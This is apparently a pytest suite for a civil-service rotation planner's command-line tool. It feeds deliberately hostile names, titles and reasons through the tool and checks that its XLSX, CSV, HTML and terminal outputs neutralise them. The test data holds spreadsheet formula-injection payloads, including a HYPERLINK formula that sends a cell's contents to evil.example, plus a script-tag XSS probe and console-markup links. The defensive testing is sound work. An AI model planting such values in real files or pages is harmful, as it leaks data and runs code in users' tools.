"""End to end: text from a user's files reaches no output as a formula, markup or script.

A scenario whose names, position titles, units, education fields and committee
reasons start with each character a spreadsheet reads as a formula (``=``, ``+``,
``-``, ``@``; tab and CR are stripped by the reader at the edges of a cell, so they
also sit inside the text) goes through the real ``penata solve``, ``decide``,
``audit`` and ``review`` commands. Every XLSX is opened with openpyxl (no cell is a
formula; the text is the input's), every CSV with the csv module (no field starts
with a dangerous character; the text is the input's after the one ``'`` prefix),
the HTML packet is checked for escaping, and the terminal output for literal markup.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from api.cli import app
from solver.io import load_scenario
from solver.tabular import FORMULA_PREFIXES
from tests.review.helpers import emp, nip, pos, write_scenario

NAMES = {
    1: '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    2: "+62 812 555",
    3: "-Budi Santoso",
    4: "@Ani",
    5: "\t=Tab\tTengah",  # read as "=Tab\tTengah"
    6: "\r=CR\rTengah",  # read as "=CR\rTengah"
    7: "<script>alert(1)</script>",
}
TITLES = {"A": "=SUM(1+1)", "B": "+Kepala", "C": "-Seksi", "D": "@Bidang",
          "E": "\tKabid\tTengah", "F": "\r=Staf\rTengah", "G": "<b>G</b>"}
UNITS = {"U": "=Unit U", "V": "+Unit V"}
REASONS = {"approve": '=HYPERLINK("http://evil.example/","ok")', "reject": "-tidak [red]cocok[/]"}
DECIDER = "@Ketua [bold]Komite[/]"


def _hostile_scenario(folder: Path) -> Path:
    """The review tests' rotation round (units U and V, posts A-G, G vacant, several
    past 60 months in post) with hostile names, titles, units and education fields."""
    comps = {"c.integritas": 3, "c.kerjasama": 3, "c.komunikasi": 2}
    strong = {"c.integritas": 4, "c.kerjasama": 4, "c.komunikasi": 3}

    def post(pid: str, unit: str, **row: object) -> dict:
        return pos(pid, title=TITLES[pid], unit=UNITS[unit],
                   education_fields="=teknik;@hukum", **row)

    positions = [
        post("A", "U", **comps), post("B", "U", **comps), post("C", "U", **comps),
        post("D", "U", **{"c.integritas": 4, "c.kerjasama": 2}),
        # critical: its succession list puts hostile names and titles in the Suksesi sheet
        post("E", "U", level=4, grade_min="III/c", grade_max="IV/b", critical="ya", **strong),
        post("F", "V", **comps), post("G", "V", **comps),
    ]
    held = {1: ("A", "2020-01-01"), 2: ("B", "2019-03-01"), 3: ("C", "2018-05-01"),
            4: ("D", "2024-06-01"), 5: ("E", "2020-02-01"), 6: ("F", "2019-01-01")}
    employees = []
    for k, name in NAMES.items():
        row: dict = {"name": name, "education_field": "+hukum" if k % 2 else "=teknik"}
        if k in held:
            row["current_position"], row["position_since"] = held[k]
        else:
            row["current_level"] = 3
        if k in (1, 5):
            row["grade"] = "III/c" if k == 1 else "III/d"
        employees.append(emp(k, **row, **(strong if k in (1, 5) else comps)))
    return write_scenario(folder, employees, positions)


def _xlsx_texts(path: Path) -> set[str]:
    """Every text cell of the workbook; fails on any formula cell."""
    texts = set()
    book = load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def _csv_rows(path: Path) -> list[dict[str, str]]:
    """The CSV's rows with the one ``'`` guard removed; fails on a field that starts
    with a dangerous character or on a guard where none was needed."""
    rows = []
    with path.open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    for row in table:
        for key, value in row.items():
            assert not value.startswith(FORMULA_PREFIXES), f"{path.name} {key}: {value!r}"
            if value.startswith("'"):
                assert value[1:].startswith(FORMULA_PREFIXES), value
                row[key] = value[1:]
        rows.append(row)
    return rows


@pytest.fixture(scope="module")
def solved(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    path = _hostile_scenario(folder)
    runner = CliRunner()
    first = runner.invoke(app, ["solve", str(path), "--out", str(folder / "out"), "--plans", "2",
                                "--time-limit", "30", "--shortlist-time", "10"])
    assert first.exit_code == 0, first.output
    doc = json.loads((folder / "out" / "plans.json").read_text(encoding="utf-8"))
    moves = [a for a in doc["plans"][0]["assignments"] if a["position"] != a["from"]]
    assert len(moves) >= 2
    decisions = []
    for action, move in zip(("approve", "reject"), moves, strict=False):
        result = runner.invoke(app, ["decide", str(path), "--plans",
                                     str(folder / "out" / "plans.json"),
                                     f"--{action}", f"{move['nip']}={move['position']}",
                                     "--reason", REASONS[action], "--by", DECIDER])
        assert result.exit_code == 0, result.output
        decisions.append(result.output)
    audit = runner.invoke(app, ["audit", str(path)])
    assert audit.exit_code == 0, audit.output
    second = runner.invoke(app, ["solve", str(path), "--out", str(folder / "out2"),
                                 "--plans", "2", "--time-limit", "30", "--shortlist-time", "0"])
    assert second.exit_code == 0, second.output
    review = runner.invoke(app, ["review", str(path), "--out", str(folder / "out2"),
                                 "--shortlist-time", "10"])
    assert review.exit_code == 0, review.output
    return {"scenario": load_scenario(path), "outs": [folder / "out", folder / "out2"],
            "decisions": decisions, "audit": audit.output}


def test_the_scenario_keeps_its_hostile_text(solved):
    sc = solved["scenario"]
    assert set(sc.employees["name"]) == {n.strip() for n in NAMES.values()}
    assert "=Tab\tTengah" in set(sc.employees["name"])
    assert set(sc.positions["unit"]) == set(UNITS.values())
    assert ("=teknik", "@hukum") in set(sc.positions["education_fields"])


def test_no_xlsx_cell_is_a_formula_and_the_text_is_the_input(solved):
    sc = solved["scenario"]
    names = dict(zip(sc.employees["nip"], sc.employees["name"], strict=True))
    for out in solved["outs"]:
        texts = _xlsx_texts(out / "plans.xlsx")
        # openpyxl reads a stored CR back as LF (XML line-end normalisation)
        wanted = {*names.values(), *sc.positions["title"], *sc.positions["unit"]}
        assert {t.replace("\r", "\n") for t in wanted} <= texts
        annex = load_workbook(out / "plans.xlsx")["Lampiran SK"]
        header = [c.value for c in annex[1]]
        rows = [dict(zip(header, (c.value for c in r), strict=True))
                for r in annex.iter_rows(min_row=2) if isinstance(r[0].value, int)]
        assert rows and all(names[r["NIP"]].replace("\r", "\n") == r["Nama"] for r in rows)
        assert all(isinstance(r["NIP"], str) and len(r["NIP"]) == 18 for r in rows)
        assert all(isinstance(r["No"], int) for r in rows)


def test_no_csv_field_starts_with_a_dangerous_character(solved):
    sc = solved["scenario"]
    names = dict(zip(sc.employees["nip"], sc.employees["name"], strict=True))
    titles = dict(zip(sc.positions["id"], sc.positions["title"], strict=True))
    units = dict(zip(sc.positions["id"], sc.positions["unit"], strict=True))
    for out in solved["outs"]:
        rows = _csv_rows(out / "plans.csv")
        assert rows
        for row in rows:
            assert row["name"] == names[row["nip"]]
            assert row["to_title"] == titles[row["to"]]
            assert row["to_unit"] == units[row["to"]]
            assert row["nip"] in names and row["rank"] in {"1", "2"}


def test_training_csv_is_guarded_and_keeps_the_text(solved):
    sc = solved["scenario"]
    names = dict(zip(sc.employees["nip"], sc.employees["name"], strict=True))
    titles = dict(zip(sc.positions["id"], sc.positions["title"], strict=True))
    units = dict(zip(sc.positions["id"], sc.positions["unit"], strict=True))
    seen = 0
    for out in solved["outs"]:
        for row in _csv_rows(out / "training.csv"):
            assert row["name"] == names[row["nip"]]
            assert row["title"] == titles[row["position"]]
            assert row["unit"] == units[row["position"]]
            seen += 1
    assert seen  # the round leaves competency gaps, so the plan has training rows


def test_every_table_output_was_checked(solved):
    """New XLSX or CSV outputs must be added to the checks above."""
    for out in solved["outs"]:
        tables = sorted(p.name for p in out.iterdir() if p.suffix in {".xlsx", ".csv"})
        assert tables == ["plans.csv", "plans.xlsx", "training.csv"]


def test_html_packet_escapes_names_and_titles(solved):
    for out in solved["outs"]:
        page = (out / "review.html").read_text(encoding="utf-8")
        assert "<script" not in page and "<b>G</b>" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "&lt;b&gt;G&lt;/b&gt;" in page


def _flat(text: str) -> str:
    return " ".join(text.split())


def test_terminal_prints_markup_in_user_text_literally(solved):
    decided = _flat(" ".join(solved["decisions"]))
    assert _flat(DECIDER) in decided
    audit = _flat(solved["audit"])
    assert _flat(REASONS["reject"]) in audit and _flat(REASONS["approve"]) in audit
    assert _flat(DECIDER) in audit


def test_infeasibility_reason_prints_a_markup_name_literally(tmp_path):
    # Pegawai 1 may take only B, whose holder may not leave (the unit's turnover cap):
    # the reason names both people and the post; their text carries rich markup.
    path = write_scenario(
        tmp_path,
        [emp(1, name="[red]Merah[/red] [/]", current_position="A",
             position_since="2026-01-01", grade="III/a"),
         emp(2, name="[bold]Tebal", current_position="B", position_since="2020-01-01")],
        [pos("A", headcount=0), pos("B", title="[link=http://evil.example]B[/link]"),
         pos("C", grade_min="III/b"), pos("D", level=5, grade_min="III/a")],
        name="[blink]tiny[/]")
    result = CliRunner().invoke(app, ["solve", str(path), "--out", str(tmp_path / "out"),
                                      "--time-limit", "20"])
    assert result.exit_code == 1, result.output
    text = _flat(result.output)
    assert "Traceback" not in text
    assert f"[red]Merah[/red] [/] ({nip(1)})" in text
    assert "[link=http://evil.example]B[/link]" in text
    assert "[blink]tiny[/]" in text
    valid = CliRunner().invoke(app, ["validate", str(path)])
    assert valid.exit_code == 0 and "[blink]tiny[/]" in valid.output


def test_import_prints_a_markup_date_literally(tmp_path):
    result = CliRunner().invoke(app, ["import", "siasn", "--pegawai", str(tmp_path / "p.csv"),
                                      "--peta-jabatan", str(tmp_path / "j.csv"),
                                      "--as-of", "[/]2027", "--out", str(tmp_path / "o")])
    assert result.exit_code == 2, result.output
    assert "'[/]2027' is not a date" in result.output
